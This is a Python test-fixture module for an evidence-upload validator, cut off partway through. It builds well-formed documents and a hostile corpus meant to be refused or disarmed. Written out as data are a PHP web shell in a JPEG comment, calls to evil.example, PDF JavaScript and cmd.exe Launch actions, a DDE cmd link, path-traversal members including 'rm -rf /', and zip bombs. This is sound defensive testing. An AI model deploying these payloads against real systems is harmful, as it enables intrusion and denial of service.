"""Evidence files built in code -- well-formed ones and a hostile corpus -- and a fake clamd.

Nothing binary is committed: every file is made here from a few lines of bytes. The builders make
genuinely well-formed files (a PDF with a correct cross-reference table, a PNG with correct CRCs,
a baseline JPEG, Office and OpenDocument packages with their required parts), and the hostile
uploads are each a small twist on one of them.

:class:`FakeClamd` speaks clamd's real ``INSTREAM`` wire protocol on a local socket: FOUND for
the EICAR test string, OK otherwise, or ERROR, a hang or a hang-up when asked to.
"""

from __future__ import annotations

import io
import socketserver
import struct
import threading
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from types import TracebackType

MIB = 1024 * 1024

# Built from parts so this source file is not itself flagged by a virus scanner.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
RTF = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
HTML = b"<!DOCTYPE html><html><body><script>fetch('//evil.example')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


# --- well-formed files -------------------------------------------------------------------------


def pdf(
    *,
    head: bytes = b"",
    padding: int = 0,
    end: bool = True,
    catalog: bytes = b"",
    page: bytes = b"",
    extra: tuple[bytes, ...] = (),
    text: bytes = b"",
) -> bytes:
    """A one-page PDF with a correct xref table; ``head`` goes right after the header.

    ``catalog`` and ``page`` are added to those dictionaries, ``extra`` objects are numbered from
    5 on (object 4 is the page's content stream), and ``text`` is written on the page.
    """
    content = b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text if text else b""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>%s>>" % page,
        b"<</Length %d>>\nstream\n%s\nendstream" % (len(content) + 1, content),
        *extra,
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + head)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if padding:
        out += b"%" + b"A" * padding + b"\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n" % (len(objects) + 1, xref)
    return bytes(out + (b"%%EOF\n" if end else b""))


def pdf_update(base: bytes, number: int, body: bytes) -> bytes:
    """``base`` with an incremental update that replaces object ``number`` with ``body``."""
    size = int(base.split(b"/Size ")[-1].split(b"/")[0])
    previous = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    offset = len(base)
    update = b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = offset + len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, offset)
    update += b"trailer\n<</Size %d/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, number + 1),
        previous,
        xref,
    )
    return base + update


def encrypted_pdf() -> bytes:
    """A PDF that opens only with a password."""
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(text=b"secret"))) as document:
        document.save(out, encryption=pikepdf.Encryption(user="letmein", owner="owner"))
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*extra_chunks: bytes) -> bytes:
    """A 1x1 white PNG; ``extra_chunks`` go between IHDR and IDAT."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra_chunks) + pixels + _chunk(b"IEND", b"")


def text_chunk(keyword: bytes, value: bytes) -> bytes:
    """A PNG ``tEXt`` chunk."""
    return _chunk(b"tEXt", keyword + b"\x00" + value)


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(*, comment: bytes = b"") -> bytes:
    """An 8x8 mid-grey baseline JPEG with one-code Huffman tables; ``comment`` as a COM segment."""
    one_code = bytes([1] + [0] * 15) + b"\x00"  # one code of length 1, for symbol 0
    return b"".join(
        [
            b"\xff\xd8",
            _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
            _segment(0xFE, comment) if comment else b"",
            _segment(0xDB, b"\x00" + b"\x01" * 64),
            _segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00"),
            _segment(0xC4, b"\x00" + one_code),
            _segment(0xC4, b"\x10" + one_code),
            _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
            b"\x3f",  # DC difference 0, then end of block; padded with 1 bits
            b"\xff\xd9",
        ]
    )


Member = tuple[str, bytes] | tuple[str, bytes, int]


def zip_of(members: Iterable[Member], *, comment: bytes = b"") -> bytes:
    """A ZIP archive of ``(name, data[, compression])`` members, deflated by default."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are wanted in one hostile file
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, data, *method in members:
                info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
                info.compress_type = method[0] if method else zipfile.ZIP_DEFLATED
                archive.writestr(info, data)
            archive.comment = comment
    return buffer.getvalue()


def _xml(body: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + body).encode()


def content_types(*overrides: tuple[str, str], extra_defaults: str = "") -> bytes:
    parts = "".join(f'<Override PartName="{n}" ContentType="{t}"/>' for n, t in overrides)
    return _xml(
        f'<Types xmlns="{PKG}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{extra_defaults}{parts}</Types>"
    )


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A relationships part from ``(type, target, target mode)``; mode "" for internal."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relationships, 1)
    )
    return _xml(f'<Relationships xmlns="{PKG}/relationships">{items}</Relationships>')


def docx_members(
    *, main_type: str = DOCX_MAIN, document_rels: bytes | None = None, body: str = ""
) -> list[Member]:
    """The parts of a one-paragraph Word document; ``body`` is more XML inside ``w:body``."""
    document = _xml(
        f'<w:document xmlns:w="{W}" xmlns:r="{REL}"><w:body><w:p><w:r><w:t>Letter</w:t></w:r>'
        f"</w:p>{body}</w:body></w:document>"
    )
    members: list[Member] = [
        ("[Content_Types].xml", content_types(("/word/document.xml", main_type))),
        ("_rels/.rels", rels(("officeDocument", "word/document.xml", ""))),
        ("word/document.xml", document),
    ]
    if document_rels is not None:
        members.append(("word/_rels/document.xml.rels", document_rels))
    return members


def docx(
    *extra: Member, main_type: str = DOCX_MAIN, document_rels: bytes | None = None, body: str = ""
) -> bytes:
    """A one-paragraph Word document; ``extra`` members are added at the end."""
    members = docx_members(main_type=main_type, document_rels=document_rels, body=body)
    return zip_of([*members, *extra])


def field(*instructions: str) -> str:
    """A Word complex field whose instruction is split over ``instructions`` runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instructions
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def xlsx(*extra: Member) -> bytes:
    """A one-sheet workbook with one number in A1."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    members: list[Member] = [
        (
            "[Content_Types].xml",
            content_types(
                ("/xl/workbook.xml", XLSX_MAIN), ("/xl/worksheets/sheet1.xml", sheet_type)
            ),
        ),
        ("_rels/.rels", rels(("officeDocument", "xl/workbook.xml", ""))),
        (
            "xl/workbook.xml",
            _xml(
                f'<workbook xmlns="{main}" xmlns:r="{REL}"><sheets>'
                '<sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ),
        ),
        ("xl/_rels/workbook.xml.rels", rels(("worksheet", "worksheets/sheet1.xml", ""))),
        (
            "xl/worksheets/sheet1.xml",
            _xml(
                f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1"><v>42</v></c></row>'
                "</sheetData></worksheet>"
            ),
        ),
    ]
    return zip_of([*members, *extra])


ODF_NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt(
    *extra: Member,
    mimetype: bytes = b"application/vnd.oasis.opendocument.text",
    body: str = "",
    scripts: str = "",
) -> bytes:
    """An OpenDocument text document: ``mimetype`` stored first, as the standard requires."""
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return zip_of(
        [
            ("mimetype", mimetype, zipfile.ZIP_STORED),
            (
                "META-INF/manifest.xml",
                _xml(
                    f'<manifest:manifest xmlns:manifest="{manifest}" manifest:version="1.2">'
                    f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype.decode()}"/>'
                    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                    "</manifest:manifest>"
                ),
            ),
            (
                "content.xml",
                _xml(
                    f'<office:document-content {ODF_NAMESPACES} office:version="1.2">'
                    f"{scripts}<office:body><office:text>{body}</office:text></office:body>"
                    "</office:document-content>"
                ),
            ),
            *extra,
        ]
    )


def docx_with_chart() -> bytes:
    """A Word document with a hyperlink and a chart whose workbook is embedded, as Word saves."""
    return docx(
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx()),
        document_rels=rels(
            ("hyperlink", "https://www.gov.uk/", "External"),
            ("package", "embeddings/Microsoft_Excel_Worksheet.xlsx", ""),
        ),
    )


# --- hostile twists ----------------------------------------------------------------------------


def patch_member(data: bytes, name: str, *, file_size: int | None = None, flags: int = 0) -> bytes:
    """Rewrite a member's declared size and/or set flag bits, in both of its headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(name).header_offset
    central = out.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", out, central + 28)[0]
        if out[central + 46 : central + 46 + length] == name.encode():
            break
        central = out.find(b"PK\x01\x02", central + 4)
    for flag_at, size_at in ((local + 6, local + 22), (central + 8, central + 24)):
        struct.pack_into("<H", out, flag_at, struct.unpack_from("<H", out, flag_at)[0] | flags)
        if file_size is not None:
            struct.pack_into("<I", out, size_at, file_size)
    return bytes(out)


def ratio_bomb() -> bytes:
    """A DOCX whose document is 20 MiB of zeros, deflated to about 20 KiB (written in pieces)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data, *_ in docx_members():
            if name != "word/document.xml":
                archive.writestr(name, data)
        with archive.open("word/document.xml", "w") as member:
            for _ in range(20):
                member.write(bytes(MIB))
    return buffer.getvalue()


def lying_size() -> bytes:
    """A DOCX whose picture declares 1,000 bytes but inflates to 5 MiB."""
    packed = docx(("word/media/image1.png", bytes(5 * MIB)))
    return patch_member(packed, "word/media/image1.png", file_size=1000)


#: The outcome of a hostile upload that is accepted, but only once its active content is gone.
DISARMED = "disarmed"


@dataclass(frozen=True)
class Upload:
    """One upload: its name, how to make its bytes, and the reason it must be refused for --
    or :data:`DISARMED`, when it is accepted only as a rebuilt file without ``residue``."""

    label: str
    filename: str
    make: Callable[[], bytes]
    reason: str
    #: Sizes of files already on the draft.
    existing: tuple[int, ...] = ()
    #: Bytes of the active content, which must not be found in the stored file (nor in any of
    #: its decoded PDF streams).
    residue: tuple[bytes, ...] = ()


def empty_directory(data: bytes) -> bytes:
    """``data`` with its end record claiming no entries: tools still extract from local headers."""
    out = bytearray(data)
    end = out.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", out, end + 8, 0, 0)
    return bytes(out)


def hide_member(data: bytes, name: str) -> bytes:
    """``data`` with ``name`` left out of the central directory: a local entry nobody lists."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
    end = data.rfind(b"PK\x05\x06")
    offset = struct.unpack_from("<L", data, end + 16)[0]
    records, position = [], offset
    while data[position : position + 4] == b"PK\x01\x02":
        lengths = struct.unpack_from("<3H", data, position + 28)
        size = 46 + sum(lengths)
        records.append(data[position : position + size])
        position += size
    kept = [r for r, info in zip(records, infos, strict=True) if info.filename != name]
    directory = b"".join(kept)
    tail = bytearray(data[end:])
    struct.pack_into("<HHLL", tail, 8, len(kept), len(kept), len(directory), offset)
    return data[:offset] + directory + bytes(tail)


def rename_local(data: bytes, name: str, other: str) -> bytes:
    """``data`` with one local header naming ``other`` while the directory still says ``name``."""
    assert len(name) == len(other)
    at = data.find(b"PK\x03\x04" + b"\x00" * 0)  # the first member
    at = data.find(name.encode(), at)
    return data[:at] + other.encode() + data[at + len(name) :]


def big_png(width: int, height: int) -> bytes:
    """A PNG header claiming ``width`` x ``height`` over a few bytes of pixels (a pixel bomb)."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
    return b"\x89PNG\r\n\x1a\n" + header + pixels + _chunk(b"IEND", b"")


def exif_jpeg(description: bytes) -> bytes:
    """A JPEG whose EXIF ImageDescription holds ``description``."""
    value = description + b"\x00"
    ifd = struct.pack("<2sHL", b"II", 42, 8) + struct.pack("<H", 1)
    ifd += struct.pack("<HHLL", 0x010E, 2, len(value), 26) + struct.pack("<L", 0) + value
    picture = jpeg()
    return picture[:2] + _segment(0xE1, b"Exif\x00\x00" + ifd) + picture[2:]


def _ztxt(keyword: bytes, value: bytes) -> bytes:
    return _chunk(b"zTXt", keyword + b"\x00\x00" + zlib.compress(value))


def _itxt(keyword: bytes, value: bytes) -> bytes:
    return _chunk(b"iTXt", keyword + b"\x00\x00\x00en\x00\x00" + value)


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _hostile() -> list[Upload]:
    c = _const
    zipped = zip_of([("payload.exe", PE)])
    macros_xlsx = xlsx(("xl/vbaProject.bin", OLE))
    dtd_rels = _xml(f'<!DOCTYPE r [<!ENTITY x "x">]><Relationships xmlns="{PKG}/relationships"/>')
    uploads = [
        # sizes and counts
        Upload("empty file", "empty.pdf", c(b""), "empty"),
        Upload("10 MiB + 1 byte", "big.pdf", lambda: pdf(padding=10 * MIB), "too_large"),
        Upload("a sixth file", "letter.pdf", c(pdf()), "too_many", existing=(1000,) * 5),
        Upload(
            "over the draft total",
            "letter.pdf",
            lambda: pdf(padding=5 * MIB),
            "total_too_large",
            existing=(10 * MIB, 10 * MIB),
        ),
        # names
        Upload("double extension .pdf.exe", "a.pdf.exe", c(PE), "type_not_allowed"),
        Upload("NUL in the name", "x.pdf\x00.exe", c(PE), "type_not_allowed"),
        Upload("bidi override name", "invoice\u202efdp.exe", c(PE), "type_not_allowed"),
        Upload("no extension", "letter", c(pdf()), "type_not_allowed"),
        Upload("trailing dot", "x.exe.", c(PE), "type_not_allowed"),
        Upload("SVG with script", "evil.svg", c(SVG), "type_not_allowed"),
        Upload("Word 97 .doc", "old.doc", c(OLE), "type_not_allowed"),
        Upload("RTF", "letter.rtf", c(RTF), "type_not_allowed"),
        Upload("HTML page", "page.html", c(HTML), "type_not_allowed"),
        # content that is not what the name says
        Upload("EXE named .pdf", "a.exe.pdf", c(PE), "content_mismatch"),
        Upload("ELF named .png", "program.png", c(ELF), "content_mismatch"),
        Upload("Mach-O named .jpg", "tool.jpg", c(MACHO), "content_mismatch"),
        Upload("SVG renamed .png", "image.png", c(SVG), "content_mismatch"),
        Upload("HTML named .pdf", "letter.pdf", c(HTML), "content_mismatch"),
        Upload("PNG named .pdf", "scan.pdf", c(png()), "content_mismatch"),
        Upload("ZIP named .pdf", "report.pdf", c(zipped), "content_mismatch"),
        Upload("RTF named .docx", "letter.docx", c(RTF), "content_mismatch"),
        Upload("OLE .doc named .docx", "letter.docx", c(OLE), "content_mismatch"),
        Upload("EXE before a DOCX", "setup.docx", lambda: PE + docx(), "content_mismatch"),
        Upload("traversal name", "../../etc/passwd.pdf", c(PASSWD), "content_mismatch"),
        Upload("Windows path name", "C:\\evil\\x.pdf", c(HTML), "content_mismatch"),
        Upload("PDF with no end", "cut.pdf", lambda: pdf(end=False), "content_mismatch"),
        Upload("UTF-16 text", "notes.txt", c("notes".encode("utf-16")), "content_mismatch"),
        Upload(
            "Windows-1252 text", "notes.txt", c("£50 owed".encode("cp1252")), "content_mismatch"
        ),
        Upload("plain ZIP named .docx", "a.docx", c(zipped), "content_mismatch"),
        Upload("workbook named .docx", "a.docx", xlsx, "content_mismatch"),
        Upload(
            "spreadsheet named .odt",
            "a.odt",
            lambda: odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
            "content_mismatch",
        ),
        Upload("member lies about its size", "a.docx", lying_size, "content_mismatch"),
        # polyglots and active content
        Upload(
            "PDF with <script> in its head",
            "a.pdf",
            c(pdf(head=b"%<script>alert(1)</script>\n")),
            "unsafe_content",
        ),
        Upload(
            "PDF with <html> in its head",
            "a.pdf",
            c(pdf(head=b"%<html><body>\n")),
            "unsafe_content",
        ),
        Upload("PDF + ZIP polyglot", "a.pdf", lambda: pdf() + zipped, "unsafe_content"),
        Upload("GIFAR-style PNG + ZIP", "photo.png", lambda: png() + zipped, "unsafe_content"),
        Upload("GIFAR-style JPEG + ZIP", "photo.jpg", lambda: jpeg() + zipped, "unsafe_content"),
        Upload(
            "PHP in a JPEG comment",
            "photo.jpg",
            c(jpeg(comment=b"<?php system($_GET['c']); ?>")),
            "unsafe_content",
        ),
        Upload(
            "script in a PNG text chunk",
            "photo.png",
            c(png(text_chunk(b"Comment", b"<script>alert(1)</script>"))),
            "unsafe_content",
        ),
        Upload(
            "JavaScript named .txt",
            "notes.txt",
            c(b"// notes\n<script>alert(1)</script>\n"),
            "unsafe_content",
        ),
        Upload("HTML named .txt", "notes.txt", c(HTML), "unsafe_content"),
        Upload("SVG named .txt", "notes.txt", c(SVG), "unsafe_content"),
        # inside Office and OpenDocument packages
        Upload(
            "DOCX with vbaProject.bin",
            "a.docx",
            lambda: docx(("word/vbaProject.bin", OLE)),
            "unsafe_content",
        ),
        Upload("DOCM content type", "a.docx", lambda: docx(main_type=DOCM_MAIN), "unsafe_content"),
        Upload(
            "DOCX with ActiveX",
            "a.docx",
            lambda: docx(("word/activeX/activeX1.xml", b"<ax/>")),
            "unsafe_content",
        ),
        Upload(
            "remote template injection",
            "a.docx",
            lambda: docx(
                document_rels=rels(("attachedTemplate", "https://evil.example/t.dotm", "External"))
            ),
            "unsafe_content",
        ),
        Upload(
            "embedded OLE object",
            "a.docx",
            lambda: docx(("word/embeddings/oleObject1.bin", OLE)),
            "unsafe_content",
        ),
        Upload(
            "embedded workbook with macros",
            "a.docx",
            lambda: docx(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", macros_xlsx)),
            "unsafe_content",
        ),
        Upload(
            "ZIP inside a DOCX",
            "a.docx",
            lambda: docx(("word/media/inner.zip", zipped)),
            "unsafe_content",
        ),
        Upload(
            "EXE inside a DOCX",
            "a.docx",
            lambda: docx(("word/media/image1.png", PE)),
            "unsafe_content",
        ),
        Upload(
            "member ../../evil.sh",
            "a.docx",
            lambda: docx(("../../evil.sh", b"rm -rf /")),
            "unsafe_content",
        ),
        Upload(
            "member ..\\..\\evil.bat",
            "a.docx",
            lambda: docx(("..\\..\\evil.bat", b"del *")),
            "unsafe_content",
        ),
        Upload(
            "member /etc/cron.d/x",
            "a.docx",
            lambda: docx(("/etc/cron.d/x", b"* * * * *")),
            "unsafe_content",
        ),
        Upload(
            "duplicate member names",
            "a.docx",
            lambda: docx(("word/document.xml", b"<x/>")),
            "unsafe_content",
        ),
        Upload(
            "encrypted member",
            "a.docx",
            lambda: patch_member(docx(), "word/document.xml", flags=1),
            "unsafe_content",
        ),
        Upload(
            "DTD in relationships", "a.docx", lambda: docx(document_rels=dtd_rels), "unsafe_content"
        ),
        Upload("XLSX with vbaProject.bin", "a.xlsx", c(macros_xlsx), "unsafe_content"),
        Upload(
            "XLSX external link (DDE)",
            "a.xlsx",
            lambda: xlsx(
                (
                    "xl/externalLinks/externalLink1.xml",
                    b'<externalLink><ddeLink ddeService="cmd"/></externalLink>',
                )
            ),
            "unsafe_content",
        ),
        Upload(
            "ODT with Basic macros",
            "a.odt",
            lambda: odt(("Basic/Standard/Module1.xml", b"<m/>")),
            "unsafe_content",
        ),
        # zip bombs
        Upload("zip bomb: ratio over 100", "a.docx", ratio_bomb, "unsafe_content"),
        Upload(
            "zip bomb: declares 200 MiB",
            "a.docx",
            lambda: patch_member(
                docx(("word/media/big.bin", b"x" * 100)), "word/media/big.bin", file_size=200 * MIB
            ),
            "unsafe_content",
        ),
        Upload(
            "zip bomb: 1,001 members",
            "a.docx",
            lambda: docx(*((f"word/media/m{i}.xml", b"<m/>") for i in range(1001))),
            "unsafe_content",
        ),
        # --- the outside probe's findings, and more of their kind ---------------------------
        # PDFs: accepted only rebuilt by pikepdf without their active content
        Upload(
            "PDF opening JavaScript action",
            "a.pdf",
            lambda: pdf(
                catalog=b"/OpenAction 5 0 R", extra=(b"<</S/JavaScript/JS(app.alert(1))>>",)
            ),
            DISARMED,
            residue=(b"app.alert", b"/JavaScript", b"/OpenAction"),
        ),
        Upload(
            "PDF Launch of cmd.exe",
            "a.pdf",
            c(pdf(catalog=b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>")),
            DISARMED,
            residue=(b"cmd.exe", b"/Launch"),
        ),
        Upload(
            "PDF SubmitForm to a URL",
            "a.pdf",
            c(pdf(catalog=b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/c)>>>>")),
            DISARMED,
            residue=(b"evil.example", b"/SubmitForm"),
        ),
        Upload(
            "PDF SubmitForm to a UNC path",
            "a.pdf",
            c(pdf(catalog=b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(\\\\\\\\evil\\\\share)>>>>")),
            DISARMED,
            residue=(b"evil", b"/SubmitForm"),
        ),
        Upload(
            "PDF with an embedded EXE",
            "a.pdf",
            lambda: pdf(
                catalog=b"/Names<</EmbeddedFiles<</Names[(setup.exe) 5 0 R]>>>>",
                extra=(
                    b"<</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>",
                    b"<</Type/EmbeddedFile/Length %d>>\nstream\n%s\nendstream" % (len(PE), PE),
                ),
            ),
            DISARMED,
            residue=(b"setup.exe", PE[:16], b"/EmbeddedFile"),
        ),
        Upload(
            "PDF JavaScript name tree",
            "a.pdf",
            lambda: pdf(
                catalog=b"/Names<</JavaScript<</Names[(x) 5 0 R]>>>>",
                extra=(b"<</S/JavaScript/JS(this.exportDataObject\\(\\))>>",),
            ),
            DISARMED,
            residue=(b"exportDataObject", b"/JavaScript"),
        ),
        Upload(
            "PDF page opening action",
            "a.pdf",
            c(pdf(page=b"/AA<</O<</S/JavaScript/JS(app.launchURL\\(1\\))>>>>")),
            DISARMED,
            residue=(b"launchURL", b"/AA"),
        ),
        Upload(
            "PDF link to a URI",
            "a.pdf",
            c(
                pdf(
                    page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                    b"/A<</S/URI/URI(https://evil.example/track)>>>>]"
                )
            ),
            DISARMED,
            residue=(b"evil.example", b"/URI"),
        ),
        Upload(
            "PDF link with a javascript: URI",
            "a.pdf",
            c(
                pdf(
                    page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                    b"/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]"
                )
            ),
            DISARMED,
            residue=(b"javascript:", b"/URI"),
        ),
        Upload(
            "PDF GoToR to a remote file",
            "a.pdf",
            c(pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\host\\\\share\\\\x.pdf)/D[0/Fit]>>")),
            DISARMED,
            residue=(b"/GoToR", b"share"),
        ),
        Upload(
            "PDF GoToE into an embedded file",
            "a.pdf",
            c(pdf(catalog=b"/OpenAction<</S/GoToE/T<</R/C/N(payload.pdf)>>>>")),
            DISARMED,
            residue=(b"/GoToE", b"payload.pdf"),
        ),
        Upload(
            "PDF ImportData action",
            "a.pdf",
            c(pdf(catalog=b"/OpenAction<</S/ImportData/F(\\\\\\\\host\\\\data.fdf)>>")),
            DISARMED,
            residue=(b"/ImportData", b"data.fdf"),
        ),
        Upload(
            "PDF action chain via Next",
            "a.pdf",
            c(
                pdf(
                    catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]"
                    b"/Next<</S/JavaScript/JS(app.alert\\(2\\))>>>>"
                )
            ),
            DISARMED,
            residue=(b"app.alert", b"/Next"),
        ),
        Upload(
            "PDF XFA form",
            "a.pdf",
            lambda: pdf(
                catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>",
                extra=(b"<</Length 30>>\nstream\n<xdp:xdp><template/></xdp:xdp>\nendstream",),
            ),
            DISARMED,
            residue=(b"xdp:xdp", b"/XFA"),
        ),
        Upload(
            "PDF rich media annotation",
            "a.pdf",
            c(
                pdf(
                    page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]"
                    b"/RichMediaContent<</Assets<<>>>>>>]"
                )
            ),
            DISARMED,
            residue=(b"/RichMedia",),
        ),
        Upload(
            "PDF file attachment annotation",
            "a.pdf",
            lambda: pdf(
                page=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>]",
                extra=(
                    b"<</Type/Filespec/F(run.exe)/EF<</F 6 0 R>>>>",
                    b"<</Type/EmbeddedFile/Length %d>>\nstream\n%s\nendstream" % (len(PE), PE),
                ),
            ),
            DISARMED,
            residue=(b"run.exe", b"/FileAttachment", PE[:16]),
        ),
        Upload(
            "PDF form field with a keystroke script",
            "a.pdf",
            lambda: pdf(
                catalog=b"/AcroForm<</Fields[5 0 R]>>",
                page=b"/Annots[5 0 R]",
                extra=(
                    b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 9 9]/P 3 0 R"
                    b"/AA<</K<</S/JavaScript/JS(app.alert\\(3\\))>>>>>>",
                ),
            ),
            DISARMED,
            residue=(b"app.alert", b"/AA"),
        ),
        Upload(
            "PDF incremental update adding JavaScript",
            "a.pdf",
            lambda: pdf_update(
                pdf(text=b"Dear parent"),
                1,
                b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(4\\))>>>>",
            ),
            DISARMED,
            residue=(b"app.alert", b"/OpenAction"),
        ),
        Upload("PDF behind a password", "a.pdf", encrypted_pdf, "content_mismatch"),
        Upload(
            "PDF damaged past repair",
            "a.pdf",
            c(b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"),
            "content_mismatch",
        ),
        # archives appended, hidden or with a directory that lies
        Upload(
            "PDF + ZIP claiming 0 entries",
            "a.pdf",
            lambda: pdf() + empty_directory(zipped),
            "unsafe_content",
        ),
        Upload(
            "PNG + ZIP claiming 0 entries",
            "photo.png",
            lambda: png() + empty_directory(zipped),
            "unsafe_content",
        ),
        Upload(
            "JPEG + ZIP claiming 0 entries",
            "photo.jpg",
            lambda: jpeg() + empty_directory(zipped),
            "unsafe_content",
        ),
        Upload(
            "PNG + ZIP with no directory",
            "photo.png",
            lambda: png() + zipped[: zipped.find(b"PK\x01\x02")],
            "unsafe_content",
        ),
        Upload(
            "JPEG + RAR",
            "photo.jpg",
